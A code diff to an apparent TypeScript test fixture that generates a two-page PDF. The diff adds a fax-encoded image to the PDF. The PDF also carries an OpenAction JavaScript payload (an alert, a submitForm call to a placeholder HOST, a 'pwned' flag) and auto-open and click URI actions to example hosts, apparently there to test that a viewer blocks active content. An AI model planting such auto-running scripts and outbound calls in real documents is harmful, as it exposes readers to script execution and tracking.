@@ -67,16 +67,24 @@ function part(name: string, data: Buffer): Buffer {
   return framed;
 }
 
-/** Two pages, the first red all over, with what makes a viewer run scripts and call strangers. */
+/**
+ * Two pages, the first red with a fax of black over its left half, with what makes a viewer run
+ * scripts and call strangers.
+ */
 function pdf(): Buffer {
   const script = 'app.alert(1); this.submitForm("HOST/script"); globalThis.pwned = true';
   const objects = [
     `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replace(/[()]/g, '\\$&')})>>>>`,
     '<</Type/Pages/Kids[3 0 R 5 0 R]/Count 2>>',
-    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]/Contents 4 0 R/Annots[6 0 R]/AA<</O<</S/URI/URI(https://opened.example)>>>>>>',
-    '<</Length 29>>stream\n1 0 0 rg 0 0 200 300 re f    \nendstream',
+    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]/Resources<</XObject<</Fax 7 0 R>>>>/Contents 4 0 R/Annots[6 0 R]/AA<</O<</S/URI/URI(https://opened.example)>>>>>>',
+    stream('', '1 0 0 rg 0 0 200 300 re f q 100 0 0 300 0 0 cm /Fax Do Q'),
     '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>',
     '<</Type/Annot/Subtype/Link/Rect[0 0 200 300]/A<</S/URI/URI(https://clicked.example)>>>>',
+    // Eight lines "as above" of white, turned round.
+    stream(
+      '/Subtype/Image/Width 8/Height 8/BitsPerComponent 1/ColorSpace/DeviceGray/Decode[1 0]/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 8/Rows 8>>',
+      '\xff\0\x10\x01',
+    ),
   ];
   let text = '%PDF-1.7\n';
   const offsets = objects.map((object, at) => {
@@ -86,9 +94,12 @@ function pdf(): Buffer {
   });
   const start = text.length;
   const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
-  text += `xref\n0 7\n0000000000 65535 f \n${lines.join('')}`;
-  return Buffer.from(`${text}trailer<</Size 7/Root 1 0 R>>\nstartxref\n${start}\n%%EOF`);
+  text += `xref\n0 8\n0000000000 65535 f \n${lines.join('')}`;
+  return Buffer.from(`${text}trailer<</Size 8/Root 1 0 R>>\nstartxref\n${start}\n%%EOF`, 'latin1');
 }
+
+const stream = (about: string, content: string): string =>
+  `<<${about}/Length ${content.length}>>stream\n${content}\nendstream`;
 
 const FILES: Record<string, Buffer> = {
   '/passport.png': png(60, 40, [0, 128, 255]),
